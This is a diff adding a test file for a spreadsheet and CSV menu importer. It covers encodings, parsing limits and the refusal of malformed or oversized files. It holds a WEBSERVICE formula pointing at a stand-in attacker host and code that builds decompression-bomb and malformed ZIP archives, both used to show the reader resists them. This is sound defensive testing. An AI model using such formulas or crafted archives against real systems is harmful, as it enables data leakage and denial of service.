@@ -1,0 +1,272 @@
+import { crc32, deflateRawSync } from 'node:zlib'
+import { isGuarded, toCsv } from '@tabard/domain/importing/to-csv'
+import fc from 'fast-check'
+import { writeXlsx, type WriteSheet } from 'hucre'
+import { describe, expect, it, test } from 'vitest'
+import { readSheet } from './read-sheet.ts'
+import { unpackArchive } from './xlsx/unpack-archive.ts'
+
+const header = ['Category', 'Name', 'Price']
+const line = ['Mains', 'Crème brûlée – 菜单', '12.50']
+const csv = [header, line].map((row) => row.join(',')).join('\n')
+const sheet = { header, rows: [{ line: 2, cells: line }] }
+
+/** Encode the characters of the test in GB18030: two bytes each. */
+const gb18030 = (text: string) => {
+  const bytes: Record<string, number[]> = { 菜: [0xb2, 0xcb], 单: [0xb5, 0xa5], 鸭: [0xd1, 0xbc] }
+  return Buffer.from(Array.from(text).flatMap((sign) => bytes[sign] ?? [sign.charCodeAt(0)]))
+}
+const utf16 = (text: string, isBig: boolean) => {
+  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le')
+  return isBig ? bytes.swap16() : bytes
+}
+const xlsx = async (sheets: WriteSheet[]) => Buffer.from(await writeXlsx({ sheets }))
+
+describe('a CSV is read', () => {
+  it.each<[string, Buffer]>([
+    ['in UTF-8', Buffer.from(csv)],
+    ['with a byte order mark', Buffer.from(`\uFEFF${csv}`)],
+    ['in UTF-16', utf16(csv, false)],
+    ['in big-endian UTF-16', utf16(csv, true)],
+    ['with CRLF line ends', Buffer.from(csv.replaceAll('\n', '\r\n'))],
+    ['with CR line ends', Buffer.from(csv.replaceAll('\n', '\r'))],
+    ['separated by semicolons', Buffer.from(csv.replaceAll(',', ';'))],
+    ['separated by tabs', Buffer.from(csv.replaceAll(',', '\t'))],
+    ['with quotes', Buffer.from(`"Category","Name","Price"\n${line.map((cell) => `"${cell}"`).join(',')}\n`)],
+  ])('%s', async (_, bytes) => {
+    expect(await readSheet(bytes)).toEqual(sheet)
+  })
+
+  it('in GB18030, the encoding of Chinese Windows', async () => {
+    expect(await readSheet(gb18030('Category,Name,Price\n菜单,鸭,5'))).toEqual({
+      header,
+      rows: [{ line: 2, cells: ['菜单', '鸭', '5'] }],
+    })
+  })
+
+  it('in Windows-1252', async () => {
+    const text = 'Category,Name,Price\nDesserts,Crème brûlée,\x8012'
+    expect(await readSheet(Buffer.from(text, 'latin1'))).toEqual({
+      header,
+      rows: [{ line: 2, cells: ['Desserts', 'Crème brûlée', '€12'] }],
+    })
+  })
+
+  it('with line breaks in cells: a row is named by its first line', async () => {
+    expect(await readSheet(Buffer.from('a,b\n\n"1\n2",x\n3,y 12" wide\n'))).toEqual({
+      header: ['a', 'b'],
+      rows: [
+        { line: 3, cells: ['1\n2', 'x'] },
+        { line: 5, cells: ['3', 'y 12" wide'] },
+      ],
+    })
+  })
+})
+
+test('any cell content is read back unchanged', async () => {
+  const text = fc
+    .string({ unit: 'grapheme', maxLength: 30 })
+    .filter((cell) => !/[\r\0\uFEFF]/u.test(cell) && !isGuarded(cell))
+  await fc.assert(
+    fc.asyncProperty(fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 8 }), async (rows) => {
+      const filled = rows.map(([first, ...rest]) => [`x${first}`, ...rest])
+      const read = await readSheet(Buffer.from(toCsv([header, ...filled])))
+      expect(typeof read === 'string' ? read : read.rows.map(({ cells }) => cells)).toEqual(filled)
+    }),
+  )
+})
+
+test('any bytes give a sheet or a refusal', async () => {
+  const starts = fc.constantFrom('', 'PK\x03\x04', 'Category,Name,Price\n', '\xff\xfe', '"')
+  await fc.assert(
+    fc.asyncProperty(starts, fc.uint8Array({ maxLength: 400 }), async (start, bytes) => {
+      const read = await readSheet(Buffer.concat([Buffer.from(start, 'latin1'), Buffer.from(bytes)]))
+      expect(['string', 'object']).toContain(typeof read)
+    }),
+  )
+})
+
+describe('a workbook is read', () => {
+  it('from its first sheet with a known header; numbers without binary rounding digits', async () => {
+    const bytes = await xlsx([
+      { name: 'Notes', rows: [['Read me'], ['first']] },
+      {
+        name: 'Menu',
+        rows: [header, ['Mains', 'Duck', 0.1 + 0.2], [null, null, null], ['Mains', 'Goose', 48]],
+      },
+    ])
+    expect(await readSheet(bytes)).toEqual({
+      header,
+      rows: [
+        { line: 2, cells: ['Mains', 'Duck', '0.3'] },
+        { line: 4, cells: ['Mains', 'Goose', '48'] },
+      ],
+    })
+  })
+
+  it('without computing formulas: stored results are read, and a formula without a result is named', async () => {
+    const bytes = await xlsx([
+      {
+        name: 'Menu',
+        rows: [header, ['Mains', 'Duck', null], ['Mains', 'Goose', null]],
+        cells: new Map([
+          ['1,2', { formula: '6*8', formulaResult: 48 }],
+          ['2,2', { formula: 'WEBSERVICE("http://evil.example")' }],
+        ]),
+      },
+    ])
+    expect(await readSheet(bytes)).toMatchObject({
+      rows: [
+        { line: 2, cells: ['Mains', 'Duck', '48'] },
+        { line: 3, formulas: [2] },
+      ],
+    })
+  })
+
+  it('unless its header has merged cells', async () => {
+    const merges = [{ startRow: 0, startCol: 0, endRow: 0, endCol: 1 }]
+    expect(await readSheet(await xlsx([{ name: 'Menu', rows: [header, line], merges }]))).toBe('merged')
+    const below = [{ startRow: 1, startCol: 0, endRow: 2, endCol: 0 }]
+    expect(
+      await readSheet(await xlsx([{ name: 'Menu', rows: [header, line], merges: below }])),
+    ).toMatchObject({
+      header,
+    })
+  })
+
+  it('only up to the size of a menu, however far away its last cell is', async () => {
+    const far = await xlsx([
+      {
+        name: 'Menu',
+        rows: [header, line],
+        cells: new Map([['1000000,16000', { value: 'x', type: 'string' }]]),
+      },
+    ])
+    expect(await readSheet(far)).toEqual(sheet)
+  })
+})
+
+/** An archive of one entry that declares `declared` as its size. */
+function archive(content: Buffer, declared: number): Buffer {
+  const name = Buffer.from('xl/workbook.xml')
+  const packed = deflateRawSync(content, { level: 9 })
+  const local = Buffer.alloc(30)
+  local.writeUInt32LE(0x04034b50)
+  local.writeUInt16LE(8, 8)
+  local.writeUInt32LE(crc32(content), 14)
+  local.writeUInt32LE(packed.length, 18)
+  local.writeUInt32LE(declared, 22)
+  local.writeUInt16LE(name.length, 26)
+  const entry = Buffer.alloc(46)
+  entry.writeUInt32LE(0x02014b50)
+  entry.writeUInt16LE(8, 10)
+  entry.writeUInt32LE(crc32(content), 16)
+  entry.writeUInt32LE(packed.length, 20)
+  entry.writeUInt32LE(declared, 24)
+  entry.writeUInt16LE(name.length, 28)
+  const end = Buffer.alloc(22)
+  end.writeUInt32LE(0x06054b50)
+  end.writeUInt16LE(1, 8)
+  end.writeUInt16LE(1, 10)
+  end.writeUInt32LE(entry.length + name.length, 12)
+  end.writeUInt32LE(local.length + name.length + packed.length, 16)
+  return Buffer.concat([local, name, packed, entry, name, end])
+}
+
+/** The same as ZIP64: the plain end record is empty, the ZIP64 record declares one entry. */
+function archive64(content: Buffer, { hasLocator = true } = {}): Buffer {
+  const plain = archive(content, content.length)
+  const end = plain.subarray(plain.length - 22)
+  const body = plain.subarray(0, plain.length - 22)
+  const record = Buffer.alloc(56)
+  record.writeUInt32LE(0x06064b50)
+  record.writeBigUInt64LE(44n, 4)
+  record.writeBigUInt64LE(1n, 24)
+  record.writeBigUInt64LE(1n, 32)
+  record.writeBigUInt64LE(BigInt(end.readUInt32LE(12)), 40)
+  record.writeBigUInt64LE(BigInt(end.readUInt32LE(16)), 48)
+  const locator = Buffer.alloc(20)
+  locator.writeUInt32LE(0x07064b50)
+  locator.writeBigUInt64LE(BigInt(body.length), 8)
+  locator.writeUInt32LE(1, 16)
+  const silent = Buffer.alloc(22)
+  silent.writeUInt32LE(0x06054b50)
+  silent.writeUInt32LE(0xff_ff_ff_ff, 16)
+  return Buffer.concat([body, record, ...(hasLocator ? [locator] : []), silent])
+}
+
+/** Change one field of an archive's end record. */
+function withEnd(bytes: Buffer, at: number, value: number): Buffer {
+  const changed = Buffer.from(bytes)
+  changed.writeUInt16LE(value, changed.length - 22 + at)
+  return changed
+}
+
+describe('a file that is no menu is refused at little cost', () => {
+  const bomb = Buffer.alloc(60 * 1_048_576)
+  it.each<[string, string, () => Buffer | Promise<Buffer>]>([
+    ['an archive of 60 MB', 'unpacked', () => archive(bomb, bomb.length)],
+    ['an archive that declares a smaller size', 'damaged', () => archive(bomb, 1_000)],
+    ['an archive that declares size zero', 'damaged', () => archive(bomb, 0)],
+    ['an archive with a ZIP64 size marker', 'damaged', () => archive(bomb, 0xff_ff_ff_ff)],
+    ['an archive with a ZIP64 record', 'damaged', () => archive64(bomb)],
+    ['a ZIP64 archive without locator', 'damaged', () => archive64(bomb, { hasLocator: false })],
+    [
+      'an archive that declares fewer entries',
+      'damaged',
+      () => withEnd(archive(Buffer.from('<x/>'), 4), 10, 0),
+    ],
+    [
+      'an archive that declares more entries',
+      'damaged',
+      () => withEnd(archive(Buffer.from('<x/>'), 4), 10, 2),
+    ],
+    ['an archive on two disks', 'damaged', () => withEnd(archive(Buffer.from('<x/>'), 4), 8, 2)],
+    [
+      'half a workbook',
+      'damaged',
+      async () => (await xlsx([{ name: 'M', rows: [header, line] }])).subarray(0, 900),
+    ],
+    ['an archive without a workbook', 'damaged', () => archive(Buffer.from('<x/>'), 4)],
+    ['an unclosed quote', 'damaged', () => Buffer.from('a,b\n"1,2\n3,4')],
+    ['NUL', 'encoding', () => Buffer.from('Category,Name,Price\nA,B\0,5')],
+    [
+      'bytes of no known encoding',
+      'encoding',
+      () => Buffer.from('Category,Name\n\x81\x20\x8d\x20,5', 'latin1'),
+    ],
+    ['half of UTF-16', 'encoding', () => Buffer.from('\xff\xfe\x00\xd8a\x00', 'latin1')],
+    ['an old Excel file', 'kind', () => Buffer.from('d0cf11e0a1b11ae100', 'hex')],
+    ['a PDF', 'kind', () => Buffer.from('%PDF-1.7 menu')],
+    ['empty lines', 'empty', () => Buffer.from('\n\n\n')],
+  ])('%s: %s', async (_, fault, make) => {
+    const bytes = await make()
+    expect(await readSheet(bytes)).toBe(fault)
+  })
+
+  it('100,000 rows are read only until the limit is exceeded', async () => {
+    const read = await readSheet(Buffer.from(`${csv}\n`.repeat(50_000)))
+    expect(typeof read === 'string' ? 0 : read.rows.length).toBe(5_001)
+  })
+})
+
+describe('unpacking an archive', () => {
+  const workbook = () => xlsx([{ name: 'Menu', rows: [header, line] }])
+
+  it('keeps the content', async () => {
+    const bytes = await workbook()
+    expect(await readSheet(bytes)).toEqual(sheet)
+    const plain = unpackArchive(bytes, 1_048_576)
+    expect(Buffer.isBuffer(plain) ? await readSheet(plain) : plain).toEqual(sheet)
+  })
+
+  it('is limited by the sum of all entries, whatever each declares', async () => {
+    const bytes = await workbook()
+    const plain = unpackArchive(bytes, 1_048_576)
+    const size = Buffer.isBuffer(plain) ? plain.length : 0
+    expect(unpackArchive(bytes, size)).toEqual(plain)
+    // Headers and names take fewer than 4,000 of these bytes: the last entry does not fit.
+    expect(unpackArchive(bytes, size - 4_000)).toBe('unpacked')
+    expect(unpackArchive(archive(Buffer.alloc(5_000), 10), 1_048_576)).toBe('damaged')
+  })
+})
